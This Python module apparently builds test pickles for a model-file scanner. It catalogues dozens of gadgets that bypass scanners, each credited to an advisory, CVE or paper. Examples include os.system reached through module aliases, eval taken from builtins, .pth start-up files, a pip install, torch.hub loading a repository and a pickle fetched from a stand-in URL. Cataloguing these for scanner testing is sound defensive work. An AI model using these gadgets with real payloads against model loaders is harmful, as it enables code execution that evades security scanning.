"""Names that a pickle imports: single functions and classes that run, load, write, connect or call back."""

# ruff: noqa: S108 - one technique a line, however long; paths in payloads that nothing runs

from .technique import ECHO, NOWHERE, Raw, Technique, call, name, value, whole

GAME = "promptfoo/modelaudit docs/agents/picklescan-rce-bypass-game.md, turn "
PICKLESCAN = "picklescan advisory on "
FICKLING = "trailofbits/fickling test_bypasses.py, "
HIDE = "arXiv 2508.19774, risky functions of common packages: "

RUNS = ("001",)
EITHER = ("001", "002")
REUSED = ("001", "002", "003")


def gadget(title: str, source: str, rules: tuple[str, ...], *opcodes: bytes) -> Technique:
    """Return the technique of one pickle."""
    return Technique(title, source, rules, lambda: {"model.pkl": whole(*opcodes)})


PATH = Raw(name("pathlib", "PosixPath") + value(("/tmp", "lockgate-blind")) + b"R")

TECHNIQUES = [
    gadget(
        "mailcap test command",
        GAME + "1",
        EITHER,
        call("mailcap", "findmatch", {"text/plain": [{"view": "cat %s", "test": ECHO}]}, "text/plain"),
    ),
    gadget(
        "spawn of setuptools' own distutils",
        GAME + "3",
        EITHER,
        call("setuptools._distutils.spawn", "spawn", ["echo", "x"]),
    ),
    gadget(
        "shell pipeline of pipes",
        GAME + "5",
        EITHER,
        call(
            "pipes",
            "Template.copy",
            Raw(name("pipes", "Template") + b")\x81" + value({"steps": [(ECHO, "ff")]}) + b"b"),
            "a",
            "b",
        ),
    ),
    gadget(
        "annotation that is evaluated",
        GAME + "7",
        EITHER,
        call(
            "typing",
            "_eval_type",
            call("typing", "ForwardRef", "f(p)"),
            {"f": name("pathlib", "Path.touch"), "p": PATH},
            None,
        ),
    ),
    gadget(
        "source that dataclasses compile",
        GAME + "9",
        EITHER,
        call("dataclasses", "_create_fn", "x", ["a=print(1)"], ["return a"]),
    ),
    gadget(
        "a call through operator.call",
        GAME + "13",
        RUNS,
        call("operator", "call", name("pathlib", "Path.touch"), PATH),
    ),
    gadget(
        "getter of a cached property",
        GAME + "69",
        EITHER,
        call(
            "functools",
            "cached_property.__get__",
            call("functools", "cached_property", name("pathlib", "Path.touch")),
            PATH,
        ),
    ),
    gadget(
        "comparison that calls back",
        GAME + "71",
        EITHER,
        call(
            "operator",
            "lt",
            Raw(call("functools", "cmp_to_key", name("pathlib", "Path.write_text")) + value((PATH,)) + b"R"),
            1,
        ),
    ),
    gadget(
        "filter of a logger",
        GAME + "73",
        EITHER,
        Raw(name("logging", "Filterer") + b")R\x940"),
        call("logging", "Filterer.filter", Raw(b"h\x00"), PATH),
    ),
    gadget(
        "property that getmembers reads",
        GAME + "75",
        EITHER,
        call(
            "inspect",
            "getmembers",
            Raw(
                call(
                    "builtins",
                    "type",
                    "P",
                    (name("pathlib", "PosixPath"),),
                    {"x": call("builtins", "property", name("pathlib", "Path.touch"))},
                )
                + value(("/tmp/x",))
                + b"R"
            ),
        ),
    ),
    gadget(
        "file that a lazy class of click opens",
        GAME + "135",
        EITHER,
        call(
            "click.utils",
            "echo",
            "import lockgate_blind",
            call("click.utils", "LazyFile", "/tmp/lockgate-blind.pth", "w"),
        ),
    ),
    gadget(
        "start-up file by io.FileIO",
        GAME + "137",
        RUNS,
        call("io", "FileIO.write", call("io", "FileIO", "/tmp/lockgate-blind.pth", "w"), b"import x\n"),
    ),
    gadget(
        "eval out of the dictionary of builtins",
        GAME + "139",
        ("001", "004"),
        Raw(
            call(
                "builtins",
                "dict.get",
                name("builtins", "__dict__"),
                call("builtins", "str.join", "", ["ev", "al"]),
            )
            + value(("1+1",))
            + b"R"
        ),
    ),
    gadget("dotted path through site to os", GAME + "141", EITHER, call("site", "os.system", ECHO)),
    gadget(
        "registry of lazy imports that is overwritten",
        GAME + "201",
        EITHER,
        Raw(name("pydantic", "_dynamic_imports") + value("_os") + value(("pydantic", "random")) + b"s0"),
        call("pydantic", "_os.system", ECHO),
    ),
    gadget("module alias inside random", GAME + "203", EITHER, call("random", "_os.system", ECHO)),
    gadget(
        "import as a side effect of an iterator",
        GAME + "205",
        EITHER,
        call("builtins", "list", call("pkgutil", "iter_importers", "lockgate_blind.part")),
    ),
    gadget(
        "connection by OBJ that POP hides",
        FICKLING + "GHSA-mxhj-88fx-4pcv",
        RUNS,
        Raw(b"(" + name("smtplib", "SMTP") + value(NOWHERE) + b"o0N"),
    ),
    gadget(
        "command of uuid",
        FICKLING + "GHSA-5hwf-rc88-82xm",
        EITHER,
        call("uuid", "_get_command_stdout", "echo", "x"),
    ),
    gadget(
        "command of the AIX support",
        FICKLING + "GHSA-5hwf-rc88-82xm",
        EITHER,
        call("_aix_support", "_read_cmd_output", ECHO),
    ),
    gadget(
        "private interpreters",
        FICKLING + "GHSA-6ggj-6f2q-f7mx",
        EITHER,
        call("_interpreters", "exec", call("_interpreters", "create"), "x=1"),
    ),
    gadget(
        "evaluated string in f2py",
        PICKLESCAN + "numpy.f2py getlincoef",
        EITHER,
        call("numpy.f2py.crackfortran", "getlincoef", "1+1", {"a": 1}),
    ),
    gadget(
        "runstring of numpy's tests",
        PICKLESCAN + "numpy.testing",
        EITHER,
        call("numpy.testing._private.utils", "runstring", "x=1", {}),
    ),
    gadget(
        "file written by distutils",
        PICKLESCAN + "distutils.file_util",
        EITHER,
        call("distutils.file_util", "write_file", "/tmp/x", ["y"]),
    ),
    gadget(
        "name look-up that leaks data",
        PICKLESCAN + "ssl",
        RUNS,
        call("ssl", "get_server_certificate", (NOWHERE, 443)),
    ),
    gadget(
        "command behind a mail stream",
        PICKLESCAN + "imaplib.IMAP4_stream",
        RUNS,
        call("imaplib", "IMAP4_stream", ECHO),
    ),
    gadget(
        "pickle that the grammar of lib2to3 loads",
        PICKLESCAN + "lib2to3",
        EITHER,
        call("lib2to3.pgen2.grammar", "Grammar.loads", call("lib2to3.pgen2.grammar", "Grammar"), b"N."),
    ),
    gadget(
        "installer of ensurepip",
        PICKLESCAN + "ensurepip._run_pip",
        EITHER,
        call("ensurepip", "_run_pip", ["install", "lockgate-blind"]),
    ),
    gadget(
        "guards that torch evaluates",
        PICKLESCAN + "torch ShapeEnv.evaluate_guards_expression",
        EITHER,
        call(
            "torch.fx.experimental.symbolic_shapes",
            "ShapeEnv.evaluate_guards_expression",
            call("torch.fx.experimental.symbolic_shapes", "ShapeEnv"),
            "1+1",
            [],
        ),
    ),
    gadget(
        "pickle in a pickle by the configuration of torch",
        PICKLESCAN + "torch ConfigModule.load_config",
        EITHER,
        call("torch.utils._config_module", "ConfigModule.load_config", None, b"\x80\x04}."),
    ),
    gadget(
        "remote call of torch",
        "CVE-2024-5480, torch.distributed.rpc",
        EITHER,
        call(
            "torch.distributed.rpc.internal",
            "_run_function",
            call("torch.distributed.rpc.internal", "PythonUDF", name("os", "getcwd"), (), {}),
        ),
    ),
    gadget(
        "type comment that torch evaluates",
        "CVE-2022-45907, torch.jit.annotations",
        EITHER,
        call("torch.jit.annotations", "parse_type_line", "# type: (int) -> int", None, None),
    ),
    gadget(
        "library that torch loads",
        HIDE + "torch._ops",
        EITHER,
        Raw(name("torch._ops", "_Ops.load_library") + value((None, "/tmp/lockgate-blind.so")) + b"R"),
    ),
    gadget(
        "repository that torch.hub runs",
        HIDE + "torch.hub",
        EITHER,
        call("torch.hub", "load", "lockgate/blind", "model"),
    ),
    gadget(
        "debugger of doctest",
        PICKLESCAN + "doctest.debug_script",
        EITHER,
        call("doctest", "debug_script", "x=1"),
    ),
    gadget(
        "pager of the new prompt",
        PICKLESCAN + "_pyrepl",
        EITHER,
        call("_pyrepl.pager", "pipe_pager", "x", ECHO),
    ),
    gadget(
        "formula that sympy evaluates",
        HIDE + "sympy",
        EITHER,
        call("sympy.parsing.sympy_parser", "parse_expr", "1+1"),
    ),
    gadget(
        "expression that pandas evaluates",
        HIDE + "pandas",
        EITHER,
        call("pandas.core.computation.eval", "eval", "1+1"),
    ),
    gadget(
        "pickle that pandas reads from a URL",
        HIDE + "pandas",
        EITHER,
        call("pandas.io.pickle", "read_pickle", "http://192.0.2.1/a.pkl"),
    ),
    gadget(
        "YAML that makes objects",
        HIDE + "yaml",
        EITHER,
        call("yaml", "unsafe_load", "!!python/object/apply:os.getcwd []"),
    ),
    gadget(
        "library through numpy",
        "picklescan scanner.py, remark on numpy.ctypeslib",
        EITHER,
        call("numpy.ctypeslib", "load_library", "lockgate-blind", "/tmp"),
    ),
    gadget(
        "file written by a plain function of numpy",
        HIDE + "numpy",
        EITHER,
        call("numpy", "savetxt", "/tmp/lockgate-blind", [1, 2]),
    ),
    gadget(
        "memory map that creates a file",
        HIDE + "numpy",
        EITHER,
        call("numpy", "memmap", "/tmp/lockgate-blind", "uint8", "w+", 0, (4,)),
    ),
    gadget(
        "download by scikit-learn's own data sets",
        HIDE + "sklearn",
        EITHER,
        call("sklearn.datasets._openml", "fetch_openml", "iris"),
    ),
    gadget(
        "booster that opens a path",
        HIDE + "lightgbm constructors",
        REUSED,
        call("lightgbm.basic", "Booster", None, None, "/etc/hostname"),
    ),
    gadget(
        "booster of XGBoost that opens a path",
        HIDE + "xgboost constructors",
        REUSED,
        call("xgboost.core", "Booster", None, [], "/etc/hostname"),
    ),
    gadget(
        "function of a transformer that writes files",
        "scikit-learn FunctionTransformer, func and kw_args",
        REUSED,
        Raw(
            name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81"
            + value(
                {
                    "func": name("numpy", "savetxt"),
                    "kw_args": {"X": [1]},
                    "inverse_func": None,
                    "validate": False,
                }
            )
            + b"b"
        ),
    ),
    gadget(
        "joblib that loads another file",
        HIDE + "joblib.load",
        EITHER,
        call("joblib.numpy_pickle", "load", "/tmp/other.pkl"),
    ),
    gadget(
        "class from a dynamic module",
        HIDE + "transformers",
        EITHER,
        call("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "a.B", "lockgate/blind"),
    ),
    gadget(
        "proxy command of paramiko", HIDE + "paramiko", EITHER, call("paramiko.proxy", "ProxyCommand", ECHO)
    ),
    gadget(
        "entry point of a package",
        HIDE + "importlib.metadata",
        EITHER,
        call(
            "importlib.metadata",
            "EntryPoint.load",
            call("importlib.metadata", "EntryPoint", "a", "os:getcwd", "g"),
        ),
    ),
    gadget(
        "factory of a logging configuration",
        HIDE + "logging.config",
        EITHER,
        call("logging.config", "dictConfig", {"version": 1, "handlers": {"h": {"()": "os.getcwd"}}}),
    ),
    gadget(
        "callback when an object dies",
        HIDE + "weakref",
        EITHER,
        call("weakref", "finalize", name("pathlib", "Path"), name("os", "getcwd")),
    ),
    gadget(
        "archive that is unpacked anywhere",
        HIDE + "shutil",
        RUNS,
        call("shutil", "unpack_archive", "/tmp/a.tar", "/tmp"),
    ),
    gadget(
        "marshalled code and a function type",
        "jasonmiao0511-hue/modelscan-npz-bypass-poc",
        RUNS,
        Raw(call("types", "FunctionType", call("marshal", "loads", b"N"), {}) + b")R"),
    ),
]
